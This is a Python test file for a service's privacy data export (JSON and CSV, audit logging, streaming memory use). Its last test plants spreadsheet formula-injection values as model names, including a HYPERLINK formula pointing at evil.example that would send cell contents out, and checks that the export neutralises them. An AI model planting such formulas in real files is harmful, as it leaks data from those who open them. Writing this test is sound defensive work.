"""Export (right of access and portability): the admin API and self-service /v1/me/export,
JSON with everything held about the account, CSV with its usage, streamed in constant memory,
each export recorded as an access request and audited."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc

import aiohttp
import orjson
from privacy_helpers import chat_body

from noor_daemon.ledger.usage import UsageEvent
from noor_daemon.privacy import export
from noor_daemon.state import ACCOUNTS, LEDGER

EMAIL = "export@example.org"


async def get(daemon, path: str, headers: dict, **params) -> tuple[int, dict, bytes]:
    async with aiohttp.ClientSession(headers=headers) as http:
        async with http.get(f"{daemon.url}{path}", params=params) as response:
            return response.status, dict(response.headers), await response.read()


async def some_calls(daemon, key: str, n: int) -> None:
    async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {key}"}) as http:
        for _ in range(n):
            async with http.post(f"{daemon.base_url}/chat/completions", json=chat_body()) as response:
                assert response.status == 200


async def test_json_export_holds_everything_about_the_account_and_is_recorded(daemon):
    key = await daemon.create_key(EMAIL, name="laptop")
    other = await daemon.create_key("someone.else@example.org")
    await some_calls(daemon, key, 3)
    await some_calls(daemon, other, 2)
    account = await daemon.app[ACCOUNTS].get_account(EMAIL)

    status, headers, body = await get(daemon, f"/admin/v1/accounts/{EMAIL}/export", daemon.admin_headers)
    assert status == 200 and headers["X-Noor-Export-Events"] == "3"
    assert headers["Content-Type"].startswith("application/json")
    data = json.loads(body)
    assert data["account"]["email"] == EMAIL and data["account"]["id"] == account.id
    (listed_key,) = data["api_keys"]
    assert listed_key["name"] == "laptop" and "key_hash" not in listed_key and key not in body.decode()
    assert len(data["usage_events"]) == 3
    assert {e["key_id"] for e in data["usage_events"]} == {listed_key["id"]}
    assert set(data["usage_events"][0]) == set(export.USAGE_FIELDS)
    assert data["retention"]["usage_days"] == 90
    assert data["quota"] is not None and data["quota"]["account"]["id"] == account.id
    assert {e["action"] for e in data["audit_log"]} >= {"account.created", "key.created"}
    assert data["privacy_requests"] == []
    assert "someone.else" not in body.decode()

    # Recorded: an access request answered at once, and an audit entry (without the email).
    rows = await daemon.app[LEDGER].fetchall("SELECT * FROM privacy_requests")
    assert [(r["kind"], r["status"], r["source"]) for r in rows] == [("access", "completed", "admin")]
    entry = await daemon.app[LEDGER].fetchone("SELECT * FROM audit_log WHERE action = 'privacy.exported'")
    assert entry["account_id"] == account.id and entry["actor"] == "admin"
    assert json.loads(entry["details"]) == {"format": "json", "events": 3, "request": rows[0]["id"]}

    # The next export lists the earlier one.
    _, _, again = await get(daemon, f"/admin/v1/accounts/{account.id}/export", daemon.admin_headers)
    later = json.loads(again)
    assert [r["kind"] for r in later["privacy_requests"]] == ["access"]
    assert "privacy.exported" in {e["action"] for e in later["audit_log"]}


async def test_csv_export_is_the_usage_events(daemon):
    key = await daemon.create_key(EMAIL)
    await some_calls(daemon, key, 4)
    status, headers, body = await get(daemon, f"/admin/v1/accounts/{EMAIL}/export", daemon.admin_headers, format="csv")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(rows) == 4 and tuple(rows[0]) == export.USAGE_FIELDS
    assert {r["model"] for r in rows} == {"sim-gpt"}
    entry = await daemon.app[LEDGER].fetchone("SELECT details FROM audit_log WHERE action = 'privacy.exported'")
    assert json.loads(entry["details"])["format"] == "csv"
    status, _, _ = await get(daemon, f"/admin/v1/accounts/{EMAIL}/export", daemon.admin_headers, format="xml")
    assert status == 400


async def test_self_service_export_is_the_callers_own_data(daemon):
    key = await daemon.create_key(EMAIL)
    other = await daemon.create_key("other@example.org")
    await some_calls(daemon, key, 2)
    await some_calls(daemon, other, 5)
    mine = {"Authorization": f"Bearer {key}"}

    status, headers, body = await get(daemon, "/v1/me/export", mine)
    assert status == 200
    data = json.loads(body)
    assert data["account"]["email"] == EMAIL and len(data["usage_events"]) == 2
    status, _, body = await get(daemon, "/v1/me/export", mine, format="csv")
    assert status == 200 and len(body.decode().strip().splitlines()) == 3

    status, _, body = await get(daemon, "/v1/me/export", mine, format="pdf")
    assert status == 400 and json.loads(body)["error"]["type"] == "invalid_request_error"
    status, _, body = await get(daemon, "/v1/me/export", {})
    assert status == 401
    status, _, _ = await get(daemon, "/v1/me/export", {"Authorization": "Bearer sk-noor-forged"})
    assert status == 401

    rows = await daemon.app[LEDGER].fetchall("SELECT source, status FROM privacy_requests WHERE kind = 'access'")
    assert [tuple(r) for r in rows] == [("self", "completed")] * 2  # the JSON and the CSV export
    actors = {r["actor"] for r in await daemon.app[LEDGER].fetchall("SELECT actor FROM audit_log WHERE action = 'privacy.exported'")}
    assert actors == {"self"}


async def _export_peak(daemon, account_id: str) -> tuple[int, int, int]:
    """(events, bytes, peak traced memory) of one admin JSON export, read and dropped chunk by chunk."""
    size = events = 0
    tail = b""
    tracemalloc.start()
    try:
        async with aiohttp.ClientSession(headers=daemon.admin_headers) as http:
            async with http.get(f"{daemon.url}/admin/v1/accounts/{account_id}/export") as response:
                async for chunk in response.content.iter_chunked(64 * 1024):
                    size += len(chunk)
                    # A field name cut by a chunk boundary is counted once, in the tail and the chunk together.
                    events += (tail + chunk).count(b'"endpoint"') - tail.count(b'"endpoint"')
                    tail = (tail + chunk)[-64:]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert tail.endswith(b"]}\n")
    return events, size, peak


async def test_export_streams_in_constant_memory(daemon, monkeypatch):
    """Ten times the events, the same memory: 2,000 then 20,000 events with 500-row pages.
    (`python -m benchmarks.export` measures a million.)"""
    monkeypatch.setattr(export, "PAGE", 500)
    peaks = {}
    for email, n in (("small@example.org", 2_000), ("large@example.org", 20_000)):
        await daemon.create_key(email)
        account = await daemon.app[ACCOUNTS].get_account(email)
        rows = [
            UsageEvent(ts=int(daemon.clock.now() * 1000) - i, model="sim-gpt", endpoint="chat/completions", status=200,
                       latency_ms=12.5, account_id=account.id, key_id="key_x", provider="simulator",
                       prompt_tokens=10, completion_tokens=20)
            for i in range(n)
        ]
        await daemon.app[LEDGER].append_usage(rows)
        del rows
        events, size, peak = await _export_peak(daemon, account.id)
        assert events == n
        peaks[n] = (size, peak)
    (small_size, small_peak), (large_size, large_peak) = peaks[2_000], peaks[20_000]
    assert large_size > 9 * small_size
    # 4.5 MB more output, well under 1 MB more memory.
    assert large_peak - small_peak < 1_000_000, peaks


def test_json_export_is_valid_when_empty():
    """Head, empty arrays and the closing brace make one JSON document."""
    import asyncio

    from noor_daemon.domain.accounts import Account

    class EmptyLedger:
        async def fetchall(self, sql, params=()):
            return []

    async def collect() -> bytes:
        account = Account(id="acct_1", email="e@example.org", plan="free")
        return b"".join([c async for c in export.export_json(EmptyLedger(), account, [], 0, {"quota": None})])

    document = orjson.loads(asyncio.run(collect()))
    assert document["usage_events"] == [] and document["audit_log"] == [] and document["quota"] is None


def test_event_rows_are_formatted_as_orjson_and_the_csv_module_would():
    """The export formats rows itself for speed; the bytes must be those of orjson on a dict and of
    csv.writer, whatever a text column holds (quotes, commas, line breaks, NULL) and whenever the call was."""
    from noor_daemon.clock import iso

    rows = [
        (1, 1_795_632_887_075, "key_a", "gpt-4o", "openai", "chat/completions", 200, 10, 20, 120.5, None, 0, 0, 4, 0, 435_000_000),
        (2, 0, None, 'we"ird, model', "x\r\ny", "", 429, 0, 0, 0.1 + 0.2, 33.0, 1, 1, 0, 0, None),
        (3, -86_400_001, "k", "m\n", None, "e,", 500, 1, 2, 1e16, 1e-7, 1, 0, 0, 2, 0),
        (4, 951_782_400_000 + 999, "key_a", "gpt-4o", "openai", "chat/completions", 200, 1, 1, 7.0, 8.25, 0, 1, 0, 0, 10**12),
    ]
    stamp = export._Timestamps()
    expected_json = [
        orjson.dumps({**dict(zip(export.USAGE_FIELDS, r)), "ts": iso(r[1]), "stream": bool(r[11]), "estimated": bool(r[12]),
                      "cost": export.cost_text(r[15])})
        for r in rows
    ]
    assert export._event_lines(rows, stamp) == b",\n".join(expected_json)
    buffer = io.StringIO()
    inert = lambda v: "'" + v if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")) else v  # noqa: E731
    csv.writer(buffer).writerows(
        (r[0], iso(r[1]), *map(inert, r[2:11]), bool(r[11]), bool(r[12]), r[13], r[14], export.cost_text(r[15])) for r in rows
    )
    assert export._csv_lines(rows, stamp, export._CsvText()) == buffer.getvalue()
    for ts in range(1_700_000_000_000, 1_700_000_000_000 + 200_000_000, 999_983):
        assert stamp(ts) == iso(ts)


async def test_csv_cells_a_spreadsheet_would_run_are_made_inert(daemon):
    """A text cell starting with =, +, -, @, a tab or a CR opens as text: a leading ' as OWASP advises."""
    await daemon.create_key(EMAIL)
    account = await daemon.app[ACCOUNTS].get_account(EMAIL)
    now = int(daemon.clock.now() * 1000)
    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain-model"]
    await daemon.app[LEDGER].append_usage([
        UsageEvent(ts=now - i, model=model, endpoint="chat/completions", status=200, latency_ms=1.0,
                   account_id=account.id, key_id="key_x", provider="simulator")
        for i, model in enumerate(nasty)
    ])
    status, _, body = await get(daemon, f"/admin/v1/accounts/{EMAIL}/export", daemon.admin_headers, format="csv")
    assert status == 200
    models = {row["model"] for row in csv.DictReader(io.StringIO(body.decode(), newline=""))}
    assert models == {"'" + m for m in nasty[:-1]} | {"plain-model"}
    assert not any(m.startswith(("=", "+", "-", "@", "\t", "\r")) for m in models)
